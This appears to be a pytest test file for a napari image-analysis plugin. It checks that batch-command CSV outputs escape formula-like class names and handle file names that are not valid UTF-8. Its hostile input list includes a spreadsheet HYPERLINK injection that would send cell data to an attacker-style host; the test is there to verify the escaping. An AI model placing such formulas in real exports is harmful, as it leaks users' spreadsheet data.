"""The batch command's CSVs: one header, no junk rows, no formulas, names that are not UTF-8."""

import csv
import os

import numpy as np
import pytest

pytest.importorskip("zarr")
pytest.importorskip("torch")

from napari_nuclei_edges.batch import run_batch
from napari_nuclei_edges.batch._tables import TABLE_CHUNK
from napari_nuclei_edges.classification import fit_classifier, save_classifier
from napari_nuclei_edges.data import synthetic_nuclei

HOSTILE = ("two\nlines", '=HYPERLINK("http://evil.example/?"&A1,"open")', "-1", "a, b")


def _rows(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def test_over_a_chunk_of_images_with_hostile_class_names_one_row_each(tmp_path):
    data = synthetic_nuclei(n_per_class=4, size=24)
    stacks = dict(zip(HOSTILE, (data[k] for k in list(data)[:4]), strict=True))
    *_, last = fit_classifier(stacks, model="features", epochs=3)
    model = save_classifier(tmp_path / "model", last.model)
    images = np.resize(np.concatenate(list(stacks.values())), (TABLE_CHUNK + 4, 24, 24))
    np.savez(tmp_path / "in.npz", a=images)
    result = run_batch(tmp_path / "in.npz", tmp_path / "out.zarr", steps="classify",
                       model=model, progress=False)  # fmt: skip
    rows = _rows(tmp_path / "out.zarr" / "predictions.csv")
    header = ["name", "slot", "predicted_class", "confidence", *(f"p_{n}" for n in HOSTILE)]
    assert rows[0] == header and len(rows) == 1 + TABLE_CHUNK + 4  # one header, no junk row
    assert [int(row[1]) for row in rows[1:]] == list(range(TABLE_CHUNK + 4))
    escaped = {"'" + n if n[0] in "=-" else n for n in HOSTILE}
    assert {row[2] for row in rows[1:]} <= escaped  # no formula, a name whole
    assert all(-1 < float(v) <= 1 for row in rows[1:] for v in row[3:])  # numbers stay numbers
    assert result.unreadable == 0


def test_file_names_that_are_not_utf8_are_written_shown_and_said_once(tmp_path, stack, h, capsys):
    from imageio import v3 as iio

    folder = tmp_path / "in" / os.fsdecode(b"cl\xe0ss")
    folder.mkdir(parents=True)
    for i, image in enumerate(stack[:4]):
        iio.imwrite(folder / os.fsdecode(b"caf\xe9%d.png" % i), image)
    out = tmp_path / "out.zarr"
    for _ in range(2):  # a re-run too (it failed at the CSV every time)
        code, printed, err = h.run_cli(capsys, tmp_path / "in", "--out", out, "--steps", "measure")
        assert (code, err) == (0, "")
        assert printed.count("not valid UTF-8") == 1
        assert "4 names are not valid UTF-8" in printed
    rows = _rows(out / "measurements.csv")
    assert [row[0] for row in rows[1:]] == [f"cl\\xe0ss/caf\\xe9{i}.png" for i in range(4)]
    assert not [p for p in out.iterdir() if p.name.endswith(".partial")]
